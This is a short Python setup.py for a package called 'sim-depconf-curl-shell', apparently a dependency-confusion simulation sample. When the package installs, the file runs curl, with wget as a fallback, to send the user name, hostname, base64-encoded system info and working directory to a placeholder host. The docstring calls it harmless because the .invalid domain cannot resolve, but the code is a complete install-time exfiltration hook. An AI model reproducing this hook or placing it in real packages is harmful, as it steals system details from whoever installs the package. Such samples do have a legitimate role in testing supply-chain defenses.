# SPDX-License-Identifier: Apache-2.0
"""Harmless: the commands send to a name that cannot exist."""

import os

from setuptools import setup

DATA = "u=$(whoami)&h=$(hostname)&k=$(uname -a | base64 -w0)&d=$(pwd)"
os.system(
    f'curl -s -m 3 -d "{DATA}" http://c.sim-shell.invalid/r >/dev/null 2>&1'
    f' || wget -q -T 3 -t 1 -O /dev/null "http://c.sim-shell.invalid/r?{DATA}" >/dev/null 2>&1'
)

setup(name="sim-depconf-curl-shell", version="1.0.0", py_modules=[])
